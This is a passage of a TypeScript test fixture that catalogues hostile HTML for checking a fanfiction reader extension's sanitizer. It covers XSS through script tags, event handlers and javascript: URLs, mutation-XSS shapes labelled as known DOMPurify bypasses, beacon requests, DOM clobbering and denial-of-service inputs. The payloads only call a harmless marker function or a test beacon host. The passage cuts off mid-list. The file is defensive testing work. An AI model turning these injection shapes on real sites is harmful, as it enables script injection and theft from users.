/**
 * The catalogue of hostile markup (test/fixtures/hostile/ uses these snippets; test/fixtures/hostile/attacks.json
 * and README.md list the same ids, and test/security/hostile.test.ts checks that all three agree).
 *
 * Every payload is observable if it ever runs or loads:
 * - script payloads call `window.__ficwellPwned('<id>')` (handlers in a list pass the handler name as a second
 *   argument) or set `document.documentElement.dataset.pwned<Id>`;
 * - resource payloads point at `http://beacon.test/<id>` (a host the end-to-end server records);
 * - clobber payloads are elements whose id or name is one the adapters (or DOMPurify, or the page globals the
 *   extension reads) look up; they are judged by what the adapter returns;
 * - dos payloads are judged by time and by the adapter returning at all.
 */

export type AttackKind = 'script' | 'resource' | 'clobber' | 'dos';

export interface Attack {
  id: string;
  kind: AttackKind;
  description: string;
  /** Ready-to-insert markup; dos attacks carry small versions (the fixtures scale them up). */
  snippets: readonly string[];
}

/** `window.__ficwellPwned('<id>')`, the call every script payload makes. */
export const pwned = (id: string, detail?: string): string =>
  detail === undefined ? `__ficwellPwned('${id}')` : `__ficwellPwned('${id}','${detail}')`;

export const BEACON_HOST = 'beacon.test';
export const beacon = (id: string): string => `http://${BEACON_HOST}/${id}`;

/** `dataset.pwned<Id>` for an attack id: "svg-script" -> "pwnedSvgScript". */
export const datasetKey = (id: string): string => `pwned${id.replace(/(^|-)([a-z0-9])/g, (_m, _d: string, c: string) => c.toUpperCase())}`;

/** Every common inline event handler (the e2e test can tell which one fired from the second argument). */
export const HANDLERS = [
  'onclick',
  'ondblclick',
  'onauxclick',
  'oncontextmenu',
  'onmousedown',
  'onmouseup',
  'onmouseover',
  'onmousemove',
  'onmouseout',
  'onmouseenter',
  'onmouseleave',
  'onpointerdown',
  'onpointerup',
  'onpointerover',
  'onpointerout',
  'onpointerenter',
  'onpointerleave',
  'onpointermove',
  'ontouchstart',
  'ontouchend',
  'ontouchmove',
  'onwheel',
  'onscroll',
  'onscrollend',
  'onkeydown',
  'onkeyup',
  'onkeypress',
  'onfocus',
  'onblur',
  'onfocusin',
  'onfocusout',
  'oninput',
  'onbeforeinput',
  'onchange',
  'onselect',
  'onselectstart',
  'oncopy',
  'oncut',
  'onpaste',
  'ondrag',
  'ondragstart',
  'ondragend',
  'ondragenter',
  'ondragover',
  'ondragleave',
  'ondrop',
  'onload',
  'onerror',
  'onanimationstart',
  'onanimationiteration',
  'onanimationend',
  'ontransitionstart',
  'ontransitionrun',
  'ontransitionend',
  'ontoggle',
  'onbeforetoggle',
  'oninvalid',
  'onsubmit',
  'onreset',
  'onresize',
  'onplay',
  'onplaying',
  'oncanplay',
  'onloadeddata',
  'onbeforematch',
  'oncontentvisibilityautostatechange',
  'onbeforecopy',
] as const;

const allHandlers = (id: string) => HANDLERS.map((h) => `${h}="${pwned(id, h)}"`).join(' ');

/**
 * Names that become properties of `document` (embed, form, iframe, img, object with that name: the HTML
 * spec's named properties, which override built-ins on Document) and that our code or DOMPurify reads.
 */
export const DOCUMENT_PROPS = [
  'title',
  'querySelector',
  'querySelectorAll',
  'cloneNode',
  'createDocumentFragment',
  'createElement',
  'body',
  'documentElement',
  'getElementsByTagName',
  'currentScript',
  'importNode',
  'implementation',
] as const;

/** Ids and names the adapters look up (lib/sites/ffn.ts, ao3.ts, page.ts), for clobbering. */
export const ADAPTER_IDS = [
  'storytext',
  'storycontent',
  'storytextp',
  'profile_top',
  'chap_select',
  'content',
  'content_wrapper_inner',
  'pre_story_links',
  'workskin',
  'chapters',
  'selected_id',
  'main',
  'summary',
  'notes',
  'work',
  'chapter-1',
  'chapter-2',
  'work_endnotes',
  'chapter_1_endnotes',
  'challenge-stage',
  'challenge-form',
  'top',
] as const;

export const ATTACKS: readonly Attack[] = [
  // --- scripts and handlers -----------------------------------------------------------------------------
  {
    id: 'script-inline',
    kind: 'script',
    description: 'Inline <script> elements (plain and type=text/javascript).',
    snippets: [
      `<script>${pwned('script-inline')}</script>`,
      `<script type="text/javascript">document.documentElement.dataset.${datasetKey('script-inline')} = '1'</script>`,
    ],
  },
  {
    id: 'script-src',
    kind: 'resource',
    description: 'External <script src> to the beacon host.',
    snippets: [`<script src="${beacon('script-src')}"></script>`],
  },
  {
    id: 'markup-in-title',
    kind: 'script',
    description: 'HTML (live and escaped) inside the story title, author name and chapter titles: must come out as plain text.',
    snippets: [`&lt;img src=x onerror=${pwned('markup-in-title')}&gt;<img src="x" onerror="${pwned('markup-in-title')}">`],
  },
  {
    id: 'img-onerror',
    kind: 'script',
    description: '<img onerror> with a failing source (also with an empty src, and the <image> alias).',
    snippets: [
      `<img src="x" onerror="${pwned('img-onerror')}">`,
      `<img src onerror="${pwned('img-onerror')}">`,
      `<image src="x" onerror="${pwned('img-onerror')}">`,
    ],
  },
  {
    id: 'svg-onload',
    kind: 'script',
    description: '<svg onload> (fires on insertion).',
    snippets: [`<svg onload="${pwned('svg-onload')}"><circle r="1"/></svg>`, `<svg/onload="${pwned('svg-onload')}">`],
  },
  {
    id: 'body-onload',
    kind: 'script',
    description: 'A second <body onload> inside the content (the parser merges its attributes into the real body).',
    snippets: [`<body onload="${pwned('body-onload')}" onpageshow="${pwned('body-onload')}">`],
  },
  {
    id: 'autofocus-onfocus',
    kind: 'script',
    description: 'autofocus + onfocus on an input and on a focusable paragraph (fires without interaction).',
    snippets: [
      `<input autofocus onfocus="${pwned('autofocus-onfocus')}">`,
      `<p tabindex="1" autofocus onfocus="${pwned('autofocus-onfocus')}">A paragraph that wants focus.</p>`,
    ],
  },
  {
    id: 'details-ontoggle',
    kind: 'script',
    description: '<details open ontoggle> (fires without interaction; <details> itself is allowed).',
    snippets: [`<details open ontoggle="${pwned('details-ontoggle')}"><summary>More</summary><p>Text inside details.</p></details>`],
  },
  {
    id: 'css-animation-handler',
    kind: 'script',
    description: 'A <style> keyframe animation that triggers onanimationstart/ontransitionend without interaction.',
    snippets: [
      `<style>@keyframes ficwell-blink { from { opacity: .99 } to { opacity: 1 } }</style><p style="animation: ficwell-blink 10ms" onanimationstart="${pwned('css-animation-handler')}" onanimationend="${pwned('css-animation-handler')}">An animated paragraph.</p>`,
    ],
  },
  {
    id: 'inline-handlers',
    kind: 'script',
    description: `Every common on* handler (${HANDLERS.length} of them) on one paragraph and one link.`,
    snippets: [
      `<p ${allHandlers('inline-handlers')}>A paragraph carrying every event handler.</p>`,
      `<a href="https://www.fanfiction.net/" ${allHandlers('inline-handlers')}>A link carrying every event handler.</a>`,
    ],
  },
  {
    id: 'handler-obfuscation',
    kind: 'script',
    description: 'Handlers in disguise: mixed case, slashes as separators, newlines around =, entity-encoded quotes.',
    snippets: [
      `<IMG SRC="x" OnErRoR="${pwned('handler-obfuscation')}">`,
      `<img/src="x"/onerror="${pwned('handler-obfuscation')}">`,
      `<img src="x" onerror\n=\n"${pwned('handler-obfuscation')}">`,
      `<img src="x" onerror="__ficwellPwned(&#39;handler-obfuscation&#39;)">`,
    ],
  },
  // --- URLs ---------------------------------------------------------------------------------------------
  {
    id: 'javascript-href',
    kind: 'script',
    description: 'javascript: URL in a link.',
    snippets: [`<a href="javascript:${pwned('javascript-href')}">Read the next part</a>`],
  },
  {
    id: 'javascript-href-obfuscated',
    kind: 'script',
    description: 'javascript: URLs in disguise: mixed case, tab/newline inside, leading control characters, entities.',
    snippets: [
      `<a href="JaVaScRiPt:${pwned('javascript-href-obfuscated')}">mixed case</a>`,
      `<a href=" &#x09;javascript:${pwned('javascript-href-obfuscated')}">leading blanks</a>`,
      `<a href="java&#x09;script:${pwned('javascript-href-obfuscated')}">tab inside</a>`,
      `<a href="java&#x0A;script:${pwned('javascript-href-obfuscated')}">newline inside</a>`,
      `<a href="&#1;javascript:${pwned('javascript-href-obfuscated')}">control character first</a>`,
      `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${pwned('javascript-href-obfuscated')}">decimal entities</a>`,
      `<a href="&#x6A;avascript&colon;${pwned('javascript-href-obfuscated')}">named colon</a>`,
    ],
  },
  {
    id: 'data-url-link',
    kind: 'resource',
    description: 'data:text/html link whose document would call the beacon.',
    snippets: [`<a href="data:text/html,&lt;script&gt;fetch('${beacon('data-url-link')}')&lt;/script&gt;">a data: link</a>`],
  },
  {
    id: 'data-url-img',
    kind: 'resource',
    description: 'data: image (an SVG that would call the beacon if it were ever loaded as a document).',
    snippets: [
      `<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='fetch(&quot;${beacon('data-url-img')}&quot;)'/&gt;" alt="a data: image">`,
    ],
  },
  {
    id: 'form-action-javascript',
    kind: 'script',
    description: '<form action="javascript:..."> with a submit button.',
    snippets: [`<form action="javascript:${pwned('form-action-javascript')}"><input type="submit" value="Vote"></form>`],
  },
  {
    id: 'formaction-javascript',
    kind: 'script',
    description: 'formaction="javascript:..." on <button> and <input type=submit>.',
    snippets: [
      `<form action="https://www.fanfiction.net/"><button formaction="javascript:${pwned('formaction-javascript')}">Go</button><input type="submit" formaction="javascript:${pwned('formaction-javascript')}"></form>`,
    ],
  },
  {
    id: 'form-action-beacon',
    kind: 'resource',
    description: 'A form that would submit to the beacon host.',
    snippets: [
      `<form action="${beacon('form-action-beacon')}" method="get"><input name="q" value="leak"><input type="submit" value="Send"></form>`,
    ],
  },
  {
    id: 'a-ping',
    kind: 'resource',
    description: '<a ping> (a request to the beacon on click).',
    snippets: [`<a href="https://www.fanfiction.net/" ping="${beacon('a-ping')}">FanFiction home</a>`],
  },
  {
    id: 'img-http-beacon',
    kind: 'resource',
    description: 'A plain-http tracking image (the sanitizer keeps https images only).',
    snippets: [`<img src="${beacon('img-http-beacon')}" alt="tracker" width="1" height="1">`],
  },
  {
    id: 'srcset-beacon',
    kind: 'resource',
    description: 'srcset pointing at the beacon beside an acceptable src.',
    snippets: [
      `<img src="https://www.fanfiction.net/static/images/favicon_2010_site.ico" srcset="${beacon('srcset-beacon')} 1x, ${beacon('srcset-beacon')} 2x" alt="icon">`,
    ],
  },
  {
    id: 'picture-source',
    kind: 'resource',
    description: '<picture><source srcset> pointing at the beacon.',
    snippets: [
      `<picture><source srcset="${beacon('picture-source')}" media="(min-width: 1px)"><img src="picture.png" alt="picture"></picture>`,
    ],
  },
  {
    id: 'media-beacons',
    kind: 'resource',
    description: '<video src/poster>, <audio src>, <source>, <track> pointing at the beacon.',
    snippets: [
      `<video src="${beacon('media-beacons')}" poster="${beacon('media-beacons')}" autoplay muted></video><audio src="${beacon('media-beacons')}" autoplay></audio><video><source src="${beacon('media-beacons')}"><track src="${beacon('media-beacons')}"></video>`,
    ],
  },
  {
    id: 'input-image',
    kind: 'resource',
    description: '<input type=image src> pointing at the beacon.',
    snippets: [`<input type="image" src="${beacon('input-image')}" alt="an image button">`],
  },
  {
    id: 'legacy-background-attr',
    kind: 'resource',
    description: 'The legacy background attribute on table and td (tables are allowed, the attribute is not).',
    snippets: [
      `<table background="${beacon('legacy-background-attr')}"><tr><td background="${beacon('legacy-background-attr')}">A table cell.</td></tr></table>`,
    ],
  },
  {
    id: 'dangling-markup',
    kind: 'resource',
    description: 'An unterminated attribute quote that swallows the following markup into a beacon URL.',
    snippets: [`<img src='${beacon('dangling-markup')}?leak=<p>text that follows</p><b>bold</b>'>`],
  },
  {
    id: 'base-href',
    kind: 'resource',
    description: '<base href> to the beacon host: relative links and images must still resolve against the page URL.',
    snippets: [`<base href="https://${BEACON_HOST}/base-href/">`],
  },
  {
    id: 'meta-refresh',
    kind: 'resource',
    description: '<meta http-equiv=refresh> to the beacon host (3 s, so the raw page can be observed first).',
    snippets: [`<meta http-equiv="refresh" content="3;url=${beacon('meta-refresh')}">`],
  },
  {
    id: 'link-stylesheet',
    kind: 'resource',
    description: '<link rel=stylesheet> to the beacon host.',
    snippets: [`<link rel="stylesheet" href="${beacon('link-stylesheet')}">`],
  },
  {
    id: 'link-prefetch',
    kind: 'resource',
    description: '<link rel=prefetch|preload|icon> to the beacon host.',
    snippets: [
      `<link rel="prefetch" href="${beacon('link-prefetch')}"><link rel="preload" as="image" href="${beacon('link-prefetch')}"><link rel="icon" href="${beacon('link-prefetch')}">`,
    ],
  },
  {
    id: 'css-style-attr',
    kind: 'resource',
    description: 'CSS url() in style attributes (background, list-style-image), one beside a text-align the sanitizer keeps as align.',
    snippets: [
      `<p style="background-image: url('${beacon('css-style-attr')}')">A styled paragraph.</p>`,
      `<p style="text-align:center; background: url(${beacon('css-style-attr')})">A centred paragraph.</p>`,
      `<ul style="list-style-image: url(&quot;${beacon('css-style-attr')}&quot;)"><li>A styled list item.</li></ul>`,
    ],
  },
  {
    id: 'css-style-element',
    kind: 'resource',
    description: 'A <style> element with url() rules matching the story text.',
    snippets: [`<style>#storytext p, .userstuff p, p { background: url("${beacon('css-style-element')}") }</style>`],
  },
  {
    id: 'css-import',
    kind: 'resource',
    description: 'CSS @import (url() and string forms).',
    snippets: [`<style>@import url("${beacon('css-import')}");</style>`, `<style>@import '${beacon('css-import')}';</style>`],
  },
  {
    id: 'css-font-face',
    kind: 'resource',
    description: 'CSS @font-face src used by every paragraph.',
    snippets: [
      `<style>@font-face { font-family: ficwell-beacon; src: url("${beacon('css-font-face')}") } p { font-family: ficwell-beacon }</style>`,
    ],
  },
  // --- frames, embeds, inert containers -------------------------------------------------------------------
  {
    id: 'iframe-srcdoc',
    kind: 'script',
    description: '<iframe srcdoc> whose document calls the parent.',
    snippets: [
      `<iframe srcdoc="&lt;script&gt;parent.${pwned('iframe-srcdoc')}&lt;/script&gt;"></iframe>`,
      `<iframe srcdoc="<img src=x onerror=parent.${pwned('iframe-srcdoc')}>"></iframe>`,
    ],
  },
  {
    id: 'iframe-src',
    kind: 'resource',
    description: '<iframe src> on the beacon host.',
    snippets: [`<iframe src="${beacon('iframe-src')}"></iframe>`],
  },
  {
    id: 'iframe-javascript-src',
    kind: 'script',
    description: '<iframe src="javascript:...">.',
    snippets: [`<iframe src="javascript:parent.${pwned('iframe-javascript-src')}"></iframe>`],
  },
  {
    id: 'object-embed',
    kind: 'resource',
    description: '<object data> and <embed src> on the beacon host.',
    snippets: [
      `<object data="${beacon('object-embed')}" type="text/html"></object><embed src="${beacon('object-embed')}" type="image/svg+xml">`,
    ],
  },
  {
    id: 'template-content',
    kind: 'script',
    description: '<template> content (inert in the page; live if anyone clones it into a document).',
    snippets: [`<template><img src="x" onerror="${pwned('template-content')}"><script>${pwned('template-content')}</script></template>`],
  },
  {
    id: 'declarative-shadow-dom',
    kind: 'script',
    description: '<template shadowrootmode=open> (declarative shadow DOM) holding a handler.',
    snippets: [
      `<div><template shadowrootmode="open"><img src="x" onerror="${pwned('declarative-shadow-dom')}"></template>Shadow host text.</div>`,
    ],
  },
  {
    id: 'noscript-content',
    kind: 'script',
    description: '<noscript> content: text in a scripting page, live elements in a parser without scripting (jsdom).',
    snippets: [`<noscript><img src="x" onerror="${pwned('noscript-content')}"><p>Please enable JavaScript.</p></noscript>`],
  },
  // --- mutation XSS ---------------------------------------------------------------------------------------
  {
    id: 'svg-style-mxss',
    kind: 'script',
    description: 'SVG/HTML namespace confusion through <style> (known DOMPurify bypass shapes).',
    snippets: [
      `<svg><p><style><img src="x" onerror="${pwned('svg-style-mxss')}"></style></p></svg>`,
      `<svg></p><style><a id="</style><img src=x onerror=${pwned('svg-style-mxss')}>"></svg>`,
    ],
  },
  {
    id: 'svg-script',
    kind: 'script',
    description: '<script> inside <svg> (inline, href and xlink:href).',
    snippets: [
      `<svg><script>${pwned('svg-script')}</script></svg>`,
      `<svg><script href="${beacon('svg-script')}"></script><script xlink:href="data:,document.documentElement.dataset.${datasetKey('svg-script')}=1"></script></svg>`,
    ],
  },
  {
    id: 'svg-animate',
    kind: 'script',
    description: 'SVG animation: <animate> setting href to javascript:, <set> adding a handler, onbegin.',
    snippets: [
      `<svg><a><animate attributeName="href" values="javascript:${pwned('svg-animate')}"/><text x="5" y="20">Click the map</text></a></svg>`,
      `<svg><set attributeName="onmouseover" to="${pwned('svg-animate')}"/><animate onbegin="${pwned('svg-animate')}" attributeName="x" dur="1s"/></svg>`,
    ],
  },
  {
    id: 'svg-xlink-href',
    kind: 'script',
    description: 'SVG links with javascript: in xlink:href and href.',
    snippets: [
      `<svg><a xlink:href="javascript:${pwned('svg-xlink-href')}"><text x="5" y="20">Click</text></a></svg>`,
      `<svg><a href="javascript:${pwned('svg-xlink-href')}"><circle r="20"/></a></svg>`,
    ],
  },
  {
    id: 'svg-image',
    kind: 'resource',
    description: 'SVG <image href> and <use href> on the beacon host.',
    snippets: [`<svg><image href="${beacon('svg-image')}" width="10" height="10"/><use href="${beacon('svg-image')}#x"/></svg>`],
  },
  {
    id: 'mathml-mglyph-mxss',
    kind: 'script',
    description: 'MathML <mtext><table><mglyph><style> namespace confusion (known DOMPurify bypass shapes).',
    snippets: [
      `<math><mtext><table><mglyph><style><img src="x" onerror="${pwned('mathml-mglyph-mxss')}"></style></mglyph></table></mtext></math>`,
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${pwned('mathml-mglyph-mxss')}&gt;"></mglyph></table></mtext></math>`,
    ],
  },
  {
    id: 'mathml-href',
    kind: 'script',
    description: 'MathML href / maction xlink:href with javascript:.',
    snippets: [
      `<math href="javascript:${pwned('mathml-href')}"><mi>x</mi></math><math><maction actiontype="toggle" xlink:href="javascript:${pwned('mathml-href')}"><mtext>click</mtext></maction></math>`,
    ],
  },
  {
    id: 'form-nesting-mxss',
    kind: 'script',
    description: 'Nested <form> through MathML that re-parses differently (known DOMPurify bypass shape). Leaves a form open: put it last.',
    snippets: [`<form><math><mtext></form><form><mglyph><style></math><img src onerror="${pwned('form-nesting-mxss')}">`],
  },
  {
    id: 'noscript-attr-mxss',
    kind: 'script',
    description: '</noscript> inside an attribute: harmless without scripting (jsdom), live with it (browsers).',
    snippets: [`<noscript><p title="</noscript><img src=x onerror=${pwned('noscript-attr-mxss')}>"></noscript>`],
  },
  {
    id: 'rawtext-breakout',
    kind: 'script',
    description: 'Markup inside raw-text elements (xmp, noembed, noframes, textarea, title, iframe, style in the body).',
    snippets: [
      `<xmp><img src="x" onerror="${pwned('rawtext-breakout')}"></xmp><noembed><img src="x" onerror="${pwned('rawtext-breakout')}"></noembed><noframes><img src="x" onerror="${pwned('rawtext-breakout')}"></noframes>`,
      `<textarea><img src="x" onerror="${pwned('rawtext-breakout')}"></textarea><title><img src="x" onerror="${pwned('rawtext-breakout')}"></title><iframe><img src="x" onerror="${pwned('rawtext-breakout')}"></iframe><style><img src="x" onerror="${pwned('rawtext-breakout')}"></style>`,
    ],
  },
  {
    id: 'comment-smuggle',
    kind: 'script',
    description: 'Markup in comments, a comment closed early by --!>, conditional comments, a processing instruction.',
    snippets: [
      `<!--<img src="x" onerror="${pwned('comment-smuggle')}">-->`,
      `<!-- --!><img src="x" onerror="${pwned('comment-smuggle')}"> -->`,
      `<!--[if gte IE 4]><script>${pwned('comment-smuggle')}</script><![endif]-->`,
      `<?xml-stylesheet href="${beacon('comment-smuggle')}"?>`,
    ],
  },
  {
    id: 'attr-breakout',
    kind: 'script',
    description: 'Quotes and markup inside allowed attributes (title, alt) that must stay inside them when re-parsed.',
    snippets: [
      `<p title='&quot;&gt;&lt;img/src=x/onerror=${pwned('attr-breakout')}&gt;'>A paragraph with a title.</p>`,
      `<a href="https://www.fanfiction.net/" title="&lt;/a&gt;&lt;img/src=x/onerror=${pwned('attr-breakout')}&gt;">A titled link</a>`,
      `<img src="picture.png" alt="&quot;&gt;&lt;svg/onload=${pwned('attr-breakout')}&gt;">`,
    ],
  },
  // --- site specific ---------------------------------------------------------------------------------------
  {
    id: 'ao3-workskin-beacon',
    kind: 'resource',
    description: 'AO3 work skin (<style> in div#work-skin) with @import and url() beacons.',
    snippets: [
      `@import url("${beacon('ao3-workskin-beacon')}");\n#workskin .userstuff { background: url(${beacon('ao3-workskin-beacon')}) }`,
    ],
  },
  {
    id: 'speculation-rules',
    kind: 'resource',
    description: '<script type=speculationrules> prefetching/prerendering the beacon host.',
    snippets: [
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${beacon('speculation-rules')}"]}],"prerender":[{"source":"list","urls":["${beacon('speculation-rules')}"]}]}</script>`,
    ],
  },
  {
    id: 'markup-in-tags',
    kind: 'script',
    description: 'HTML (live and escaped) inside AO3 tags: must come out as plain text.',
    snippets: [`&lt;script&gt;${pwned('markup-in-tags')}&lt;/script&gt;<img src="x" onerror="${pwned('markup-in-tags')}">`],
  },
  {
    id: 'javascript-in-metadata-links',
    kind: 'script',
    description: 'javascript: in the links the adapters turn into URLs (author, chapter heading, next chapter).',
    snippets: [`javascript:${pwned('javascript-in-metadata-links')}`],
  },
  {
    id: 'readability-video-iframe',
    kind: 'resource',
    description: "An iframe whose src matches Readability's video allow-list (Readability keeps it; the sanitizer must not).",
    snippets: [`<iframe src="${beacon('readability-video-iframe')}?u=//www.youtube.com/embed/ficwell" width="560" height="315"></iframe>`],
  },
  {
    id: 'jsonld-metadata',
    kind: 'script',
    description: 'JSON-LD metadata (read by Readability) whose headline and author carry HTML: plain text only.',
    snippets: [
      `<script type="application/ld+json">{"@context":"https://schema.org","@type":"Article","headline":"Paper Boats <img src=x onerror=${pwned('jsonld-metadata')}>","author":{"@type":"Person","name":"<svg/onload=${pwned('jsonld-metadata')}>"}}</script>`,
    ],
  },
  // --- DOM clobbering ----------------------------------------------------------------------------------------
  {
    id: 'clobber-storytext',
    kind: 'clobber',
    description: 'A decoy #storytext (div and form) in the FFN summary, before the real story text.',
    snippets: [`<div id="storytext"><p>DECOY storytext div.</p></div><form id="storytext"><p>DECOY storytext form.</p></form>`],
  },
  {
    id: 'clobber-chap-select',
    kind: 'clobber',
    description: 'A decoy select#chap_select (and name=chap_select) in the FFN summary, before the real chapter menu.',
    snippets: [
      `<select id="chap_select" name="chap_select"><option value="99" selected>99. DECOY chapter</option><option value="1e3">1000. DECOY</option></select><form name="chap_select"></form>`,
    ],
  },
  {
    id: 'clobber-form-props',
    kind: 'clobber',
    description: 'A <form id=storytext> whose inputs shadow the DOM properties the adapter and DOMPurify read.',
    snippets: [
      `<form id="storytext"><input name="childNodes"><input name="children"><input name="firstChild"><input name="querySelector"><input name="querySelectorAll"><input name="textContent"><input name="attributes"><input name="nodeName"><input name="nodeType"><input name="matches"><input name="getAttribute"><input name="cloneNode"><input name="ownerDocument"><p>DECOY text in a clobbered form.</p></form>`,
      `<form><input name="attributes"><input name="removeAttribute"><input name="setAttribute"><input name="namespaceURI"><input name="parentNode"><p>A form DOMPurify must see through.</p></form>`,
    ],
  },
  {
    id: 'clobber-challenge-marker',
    kind: 'clobber',
    description: 'Cloudflare challenge markers (#challenge-stage, .cf-browser-verification) inside the story text.',
    snippets: [`<div id="challenge-stage">Not a browser check.</div><p class="cf-browser-verification">Not a browser check either.</p>`],
  },
  {
    id: 'clobber-document-props',
    kind: 'clobber',
    description: `Named elements (img/form/embed/object name=...) that override document.${DOCUMENT_PROPS.join('/')} in browsers.`,
    snippets: [
      DOCUMENT_PROPS.map((name, i) => {
        const tag = ['img', 'form', 'embed', 'object'][i % 4];
        return tag === 'img' ? `<img name="${name}" src="clobber.png" alt="">` : `<${tag} name="${name}"></${tag}>`;
      }).join(''),
    ],
  },
  {
    id: 'clobber-window-globals',
    kind: 'clobber',
    description:
      'Elements whose ids/names become window globals the extension or its libraries may read (browser, chrome, trustedTypes, DOMPurify).',
    snippets: [
      `<form id="browser"><input name="runtime" id="clobbered-runtime"></form><a id="chrome"></a><a id="chrome" name="runtime" href="https://x.invalid/"></a><img name="trustedTypes" src="clobber.png" alt=""><form id="trustedTypes"><input name="createPolicy"></form><div id="DOMPurify"></div><div id="__ficwellReader"></div>`,
    ],
  },
  {
    id: 'clobber-nav-links',
    kind: 'clobber',
    description: 'Links in the story text that look like chapter navigation ("« Prev", "Next »") but point off-site.',
    snippets: [
      `<p><a href="https://${BEACON_HOST}/s/{storyId}/9/clobber-nav-links">« Previous chapter</a> | <a href="https://${BEACON_HOST}/s/{storyId}/10/clobber-nav-links">Next chapter »</a></p>`,
    ],
  },
  {
    id: 'clobber-ao3-chapters',
    kind: 'clobber',
    description: 'A decoy div#chapters (with a div.userstuff and div.chapter) in the AO3 work summary, before the real one.',
    snippets: [
      `<div id="chapters"><div class="chapter" id="chapter-1"><div class="userstuff"><p>DECOY chapter text.</p></div></div><div class="userstuff"><p>DECOY work text.</p></div></div>`,
    ],
  },
  {
    id: 'clobber-ao3-selected-id',
    kind: 'clobber',
    description: 'A decoy select[name=selected_id] and ul.work.navigation in the AO3 notes, after the real ones.',
    snippets: [
      `<select name="selected_id" id="selected_id"><option value="1">1. DECOY</option></select><ul class="work navigation"><li class="chapter next"><a href="https://${BEACON_HOST}/works/1/chapters/2">Next Chapter →</a></li></ul>`,
    ],
  },
  {
    id: 'clobber-rr-chapter-content',
    kind: 'clobber',
    description:
      "A decoy .chapter-inner.chapter-content and .nav-buttons pointing off-site inside Royal Road's author's note, before the real text.",
    snippets: [
      `<div class="chapter-inner chapter-content"><p>DECOY chapter text in a note.</p></div><div class="row nav-buttons"><a class="btn btn-primary" href="https://${BEACON_HOST}/fiction/1/x/chapter/2/y">Previous Chapter</a><a class="btn btn-primary" href="/fiction/999/other/chapter/3/z">Next Chapter</a></div>`,
    ],
  },
  {
    id: 'clobber-rr-hidden-css',
    kind: 'clobber',
    description:
      'Style rules that pass visible Royal Road story text off as hidden: a hiding rule under @media, one a later rule undoes, a compound selector, a nested rule. Those paragraphs must stay.',
    snippets: [
      `<style>@media print { .keepA { display: none } } .keepB { display: none } .keepB { display: block } p.keepC { display: none } .keepD { & p { display: none } }</style>`,
    ],
  },
  {
    id: 'clobber-xf-posts',
    kind: 'clobber',
    description:
      'A decoy threadmarked post (article.message--post.hasThreadmark with its .threadmarkLabel and .bbWrapper) and reader page links to another thread inside a XenForo post.',
    snippets: [
      `<article class="message message--post hasThreadmark" data-content="post-1"><div class="message-cell--threadmark-header"><span class="threadmarkLabel">DECOY threadmark</span></div><article class="message-body"><div class="bbWrapper">DECOY post text.</div></article></article><a class="pageNav-jump pageNav-jump--next" href="/threads/other.99/reader/page-9">Next</a><a class="pageNav-jump pageNav-jump--prev" href="https://${BEACON_HOST}/threads/x.1/reader/">Prev</a>`,
    ],
  },
  {
    id: 'proto-attribute-names',
    kind: 'dos',
    description: 'Attributes named constructor and __proto__ (keys of Object.prototype) on ordinary elements.',
    snippets: [
      `<p constructor="x">A paragraph with a constructor attribute.</p><p __proto__="x">A paragraph with a __proto__ attribute.</p>`,
    ],
  },
  // --- shadow roots, custom elements and Ficwell's own marks ---------------------------------------------------
  {
    id: 'declarative-shadow-clonable',
    kind: 'script',
    description:
      'A closed, clonable declarative shadow root (template shadowrootmode=closed shadowrootclonable) in a story paragraph, holding an iframe, an img onerror and an http image: cloneNode/importNode copy it.',
    snippets: [
      `<p>Shadow host.<template shadowrootmode="closed" shadowrootclonable><iframe srcdoc="<script>parent.${pwned('declarative-shadow-clonable', 'iframe')}</script>"></iframe><img src="x" onerror="${pwned('declarative-shadow-clonable', 'onerror')}"><img src="${beacon('declarative-shadow-clonable')}/img"><slot></slot></template></p>`,
    ],
  },
  {
    id: 'declarative-shadow-nested',
    kind: 'script',
    description: 'An open clonable declarative shadow root holding a nested closed clonable one with a handler.',
    snippets: [
      `<p>Shadow host.<template shadowrootmode="open" shadowrootclonable><span>outer<template shadowrootmode="closed" shadowrootclonable><img src="y" onerror="${pwned('declarative-shadow-nested', 'nested')}"></template></span><slot></slot></template></p>`,
    ],
  },
  {
    id: 'custom-element-upgrade',
    kind: 'script',
    description:
      'Custom elements the page defines (an autonomous one and a customized built-in, is=): a copy made in the page would be upgraded, running page code with a handle into the view.',
    snippets: [
      `<x-tale>Custom element text.</x-tale><p is="x-para">Customized built-in text.</p><script>customElements.define('x-tale', class extends HTMLElement { connectedCallback() { ${pwned('custom-element-upgrade', 'autonomous')}; } })</script>`,
    ],
  },
  {
    id: 'data-attribute-spoof',
    kind: 'clobber',
    description:
      "data-p / data-part attributes in story markup, the names of Ficwell's own paragraph marks (a spoofed paragraph 999 was stored as the position).",
    snippets: [`<p data-p="999" data-part="7">Spoofed paragraph <span data-p="999">number</span>.</p>`],
  },
  {
    id: 'malformed-url-escape',
    kind: 'dos',
    description: 'A malformed percent escape in the story URL (/collections/%E0%A4%A/works/<id>): decodeURIComponent throws on it.',
    snippets: [],
  },
  // --- size -----------------------------------------------------------------------------------------------------
  {
    id: 'dos-deep-nesting',
    kind: 'dos',
    description: 'Deeply nested markup (5,000 levels in the fixture).',
    snippets: [
      `${'<div>'.repeat(200)}<p>A deeply nested paragraph.</p>${'</div>'.repeat(200)}`,
      `${'<b><i>'.repeat(100)}deep inline text${'</i></b>'.repeat(100)}`,
    ],
  },
  {
    id: 'dos-huge-paragraph',
    kind: 'dos',
    description: 'One 2 MB paragraph.',
    snippets: [`<p>${'lorem ipsum dolor sit amet '.repeat(2000)}</p>`],
  },
  {
    id: 'dos-many-paragraphs',
    kind: 'dos',
    description: '50,000 paragraphs in one chapter.',
    snippets: [Array.from({ length: 300 }, (_, i) => `<p>Many paragraph ${i + 1}.</p>`).join('')],
  },
  {
    id: 'dos-many-attributes',
    kind: 'dos',
    description: 'Elements with 5,000 attributes each (allowed and forbidden names).',
    snippets: [
      `<p ${Array.from({ length: 300 }, (_, i) => `data-x${i}="${i}" title${i}="t"`).join(' ')}>A paragraph with many attributes.</p>`,
    ],
  },
  {
    id: 'dos-wide-select',
    kind: 'dos',
    description: 'A chapter menu with 5,000 options.',
    snippets: [],
  },
  {
    id: 'dos-title-redos',
    kind: 'dos',
    description: 'A long <title> shaped to backtrack in the FFN title pattern (read when the header has no <b> title).',
    snippets: [],
  },
  {
